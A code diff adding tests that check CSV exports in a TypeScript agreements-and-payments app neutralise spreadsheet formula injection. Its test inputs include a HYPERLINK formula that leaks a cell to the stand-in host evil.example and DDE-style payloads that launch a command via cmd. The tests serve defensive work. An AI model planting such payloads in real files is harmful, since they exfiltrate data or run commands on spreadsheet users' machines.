@@ -1,9 +1,12 @@
 import { parse } from 'csv-parse/sync';
+import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { accrueDays } from '../../src/app/agreements/accrue-days.js';
+import { adjustDays } from '../../src/app/agreements/adjust-days.js';
 import { createAgreement } from '../../src/app/agreements/create-agreement.js';
 import { submitPaymentRequest } from '../../src/app/payments/submit-payment-request.js';
 import { approvePaymentRequest } from '../../src/app/payments/approve-payment-request.js';
+import { organizations } from '../../src/db/schema/index.js';
 import { bearer, buildTestApp, type TestApp } from '../support/app.js';
 import { actorFor, demoEmails, makeVoucher, registerFabrikamForPayments } from '../support/voucher-factory.js';
 
@@ -132,5 +135,51 @@ describe('CSV exports', () => {
     expect(rows.every((r) => r.entityId === agreementId)).toBe(true);
     const withAfter = rows.find((r) => r.after !== '');
     expect(() => JSON.parse(withAfter!.after!) as unknown).not.toThrow();
+  });
+});
+
+describe('CSV exports against formula injection (decision 029)', () => {
+  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
+
+  it('puts a quote before user text that a spreadsheet would run as a formula, never before a number', async () => {
+    const operator = await actorFor(t, demoEmails.operator);
+    // Before the program's accrual end date, like the agreement of the first block.
+    t.clock.set('2021-01-20T10:00:00.000Z');
+    const agreement = await createAgreement(t.ctx, operator, t.demo.organizationIds['Northwind Traders']!, {
+      programId: t.demo.programId,
+      licensingId: '+FORMULA-1',
+      endsOn: '2023-12-31',
+    });
+    await accrueDays(t.ctx, operator, agreement.id, { days: 7, note: hyperlink });
+    await accrueDays(t.ctx, operator, agreement.id, { days: 1, note: "\tcmd|' /C calc'!A0" });
+    await adjustDays(t.ctx, operator, agreement.id, { days: -5, reason: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    await adjustDays(t.ctx, operator, agreement.id, { days: 1, reason: '-2+3' });
+    await accrueDays(t.ctx, operator, agreement.id, { days: 2, note: '\rline' });
+    t.clock.set('2021-03-01T09:00:00.000Z');
+    const response = await download(demoEmails.operator, `/exports/ledger.csv?agreementId=${agreement.id}`);
+    expect(response.statusCode).toBe(200);
+    const rows = records(response.body);
+    expect(rows.map((r) => [r.days, r.note, r.licensingId])).toEqual([
+      ['2', "'\rline", "'+FORMULA-1"],
+      ['1', "'-2+3", "'+FORMULA-1"],
+      ['-5', "'@SUM(1+1)*cmd|' /C calc'!A0", "'+FORMULA-1"],
+      ['1', "'\tcmd|' /C calc'!A0", "'+FORMULA-1"],
+      ['7', `'${hyperlink}`, "'+FORMULA-1"],
+    ]);
+    // The numbers this export writes go out as they are: a debit is `-5`, not text.
+    expect(response.body).toMatch(/,adjustment,-5,/);
+  });
+
+  it('neutralises an organisation name in every export that writes it, and leaves ordinary text alone', async () => {
+    const fabrikam = t.demo.organizationIds['Fabrikam Consulting']!;
+    await t.ctx.db.update(organizations).set({ name: hyperlink }).where(eq(organizations.id, fabrikam));
+    try {
+      const response = await download(demoEmails.finance, '/exports/payment-requests.csv?status=approved');
+      const row = records(response.body).find((r) => r.reference === reference);
+      expect(row).toMatchObject({ partnerName: `'${hyperlink}`, invoiceNumber: 'INV "7", Zoë', country: 'US' });
+      expect(Number(row!.amount) * 100).toBe(Number(row!.amountMinor));
+    } finally {
+      await t.ctx.db.update(organizations).set({ name: 'Fabrikam Consulting' }).where(eq(organizations.id, fabrikam));
+    }
   });
 });
